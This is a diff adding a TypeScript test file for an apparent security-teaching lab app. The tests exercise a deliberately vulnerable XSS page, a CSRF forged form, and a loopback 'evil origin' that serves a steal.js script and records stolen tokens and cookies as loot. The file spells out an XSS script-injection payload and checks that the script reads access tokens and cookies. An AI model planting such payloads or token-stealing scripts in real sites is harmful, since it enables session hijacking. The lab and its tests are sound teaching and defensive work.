@@ -1,0 +1,109 @@
+import { describe, expect, it } from 'vitest';
+import { CONTENT_SECURITY_POLICY } from '../../../server/middleware/security-headers.ts';
+import { evilOriginResponseSchema, lootResponseSchema } from '../../../shared/api/lab-attacks.ts';
+import { LabClient } from '../../support/lab-client.ts';
+import { useLabServer } from '../../support/lab-server.ts';
+import { TEST_LAB_KEY } from '../../support/test-app.ts';
+
+describe('the evil origin and the vulnerable page (labs 5 and 6)', () => {
+  const lab = useLabServer();
+  const withKey = (client: LabClient, method: 'get' | 'post' | 'delete', path: string) => client.agent[method](path).set('X-Lab-Key', TEST_LAB_KEY).set('Origin', client.url);
+
+  it("is started by the app's own window only", async () => {
+    const anonymous = await new LabClient(lab.served.url).agent.post('/api/v1/lab/evil-origin');
+    expect(anonymous.status).toBe(401);
+    expect(anonymous.body.error.code).toBe('LAB_KEY_REQUIRED');
+    const alice = new LabClient(lab.served.url);
+    await alice.login('alice', 'alice-lab-pass');
+    for (const res of [await alice.post('/api/v1/lab/evil-origin'), await alice.get('/api/v1/lab/evil-origin/loot'), await alice.delete('/api/v1/lab/evil-origin/loot')]) {
+      expect(res.status).toBe(401);
+      expect(res.body.error.code).toBe('LAB_KEY_REQUIRED');
+    }
+    expect(lab.t.evilOrigin.urls).toBeNull();
+  });
+
+  it('starts once on another loopback port, serves the script and the forged form, records loot, and answers only its own names', async () => {
+    const client = new LabClient(lab.served.url);
+    const first = evilOriginResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/evil-origin')).body);
+    const again = evilOriginResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/evil-origin')).body);
+    expect(again).toEqual(first);
+    const port = new URL(first.url).port;
+    expect(first.url).toBe(`http://localhost:${port}`);
+    expect(first.sameSiteUrl).toBe(`http://127.0.0.1:${port}`);
+    expect(port).not.toBe(new URL(lab.served.url).port);
+
+    const script = await fetch(`${first.sameSiteUrl}/steal.js`, { headers: { Host: `localhost:${port}` } });
+    expect(script.headers.get('content-type')).toMatch(/javascript/);
+    const text = await script.text();
+    expect(text).toContain("localStorage.getItem(\"sessionlab:access_token\")");
+    expect(text).toContain('"x-stolen-by": \'evil-script\'');
+    expect(text).toContain('document.cookie');
+    const form = await (await fetch(`${first.sameSiteUrl}/forged-form`)).text();
+    expect(form).toContain(`action="${lab.served.url}/api/v1/lab/csrf/transfer"`);
+
+    await fetch(`${first.sameSiteUrl}/loot?token=eyJhbGciOi%E2%80%A6abcdefgh&cookie=theme%3Ddark&status=200`);
+    const loot = lootResponseSchema.parse((await withKey(client, 'get', '/api/v1/lab/evil-origin/loot')).body).loot;
+    expect(loot).toEqual([expect.objectContaining({ token: 'eyJhbGciOi…abcdefgh', cookie: 'theme=dark', status: 200 })]);
+    expect((await withKey(client, 'delete', '/api/v1/lab/evil-origin/loot')).status).toBe(204);
+    expect(lootResponseSchema.parse((await withKey(client, 'get', '/api/v1/lab/evil-origin/loot')).body).loot).toEqual([]);
+
+    // A DNS-rebinding name is refused by the evil origin too, and it is GET only.
+    const { request } = await import('node:http');
+    const status = await new Promise<number>((resolve, reject) => {
+      request({ host: '127.0.0.1', port, path: '/steal.js', headers: { Host: `evil.example:${port}` } }, (res) => resolve(res.statusCode ?? 0))
+        .on('error', reject)
+        .end();
+    });
+    expect(status).toBe(403);
+    expect((await fetch(`${first.sameSiteUrl}/loot`, { method: 'POST' })).status).toBe(405);
+  });
+
+  it('the vulnerable page reflects name unescaped and weakens only its own CSP, toward the evil origin only', async () => {
+    const client = new LabClient(lab.served.url);
+    const { url } = evilOriginResponseSchema.parse((await withKey(client, 'post', '/api/v1/lab/evil-origin')).body);
+    const injection = `<script src="${url}/steal.js"></script>`;
+    const page = await client.get(`/lab/xss?name=${encodeURIComponent(injection)}`);
+    expect(page.status).toBe(200);
+    expect(page.text).toContain(`Hello, ${injection}!`);
+    expect(page.text).toContain('Deliberately vulnerable lab page');
+    const csp = page.headers['content-security-policy'] as string;
+    expect(csp).toContain(`script-src ${url}`);
+    expect(csp).toContain("frame-ancestors 'self'");
+    expect(csp).not.toContain('unsafe-inline');
+    expect(page.headers['x-frame-options']).toBe('SAMEORIGIN');
+
+    // Everything else keeps the app's strict policy: the main page, another page path, the API.
+    for (const path of ['/', '/labs', '/lab/other', '/lab/xssx']) {
+      const other = await client.get(path);
+      expect(other.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
+      expect(other.headers['x-frame-options']).toBe('DENY');
+    }
+    expect(CONTENT_SECURITY_POLICY).toContain("script-src 'self'");
+    expect(CONTENT_SECURITY_POLICY).toContain("frame-ancestors 'none'");
+    expect((await client.get('/api/v1/health')).headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'");
+  });
+
+  it('refuses bad input on the lab pages with JSON errors', async () => {
+    const client = new LabClient(lab.served.url);
+    const long = await client.get(`/lab/xss?name=${'a'.repeat(2_049)}`);
+    expect(long.status).toBe(400);
+    expect(long.body.error.code).toBe('VALIDATION_FAILED');
+    const site = await client.get('/lab/csrf-frame?site=elsewhere');
+    expect(site.status).toBe(400);
+    expect(site.body.error.code).toBe('VALIDATION_FAILED');
+    const post = await client.post('/lab/xss');
+    expect(post.status).toBeGreaterThanOrEqual(400);
+  });
+});
+
+describe('the vulnerable page before the evil origin runs', () => {
+  const lab = useLabServer();
+  it('allows no script at all, and the CSRF frame page says the evil origin is not running', async () => {
+    const client = new LabClient(lab.served.url);
+    const page = await client.get('/lab/xss?name=x');
+    expect(page.headers['content-security-policy']).toContain("script-src 'none'");
+    const frame = await client.get('/lab/csrf-frame?site=same-site');
+    expect(frame.status).toBe(404);
+    expect(frame.body.error.code).toBe('NOT_FOUND');
+  });
+});
